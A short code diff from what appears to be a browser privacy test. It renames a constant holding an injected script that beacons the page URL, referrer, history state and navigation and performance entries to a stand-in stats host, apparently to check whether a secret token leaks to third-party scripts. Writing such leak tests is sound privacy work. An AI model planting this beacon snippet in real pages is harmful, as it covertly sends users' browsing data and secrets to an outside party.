@@ -10,7 +10,7 @@ const STATISTICS = 'https://stats.example.com';
 const SECRET = 'cs_secret_17';
 
 /** Reports every URL that a script in the page can see. */
-const CURIOUS = `navigator.sendBeacon('${STATISTICS}/beacon', JSON.stringify([
+const SPYING_SCRIPT = `navigator.sendBeacon('${STATISTICS}/beacon', JSON.stringify([
   location.href, document.referrer, JSON.stringify(history.state),
   ...navigation.entries().map(({ url }) => url),
   ...performance.getEntries().map(({ name }) => name),
@@ -45,7 +45,7 @@ async function listen(context: BrowserContext): Promise<string[]> {
     const request = route.request();
     heard.push(request.url(), (await request.allHeaders()).referer ?? '', request.postData() ?? '');
     return request.resourceType() === 'script'
-      ? route.fulfill({ contentType: 'text/javascript', body: CURIOUS })
+      ? route.fulfill({ contentType: 'text/javascript', body: SPYING_SCRIPT })
       : route.fulfill({ status: 204 });
   });
   return heard;
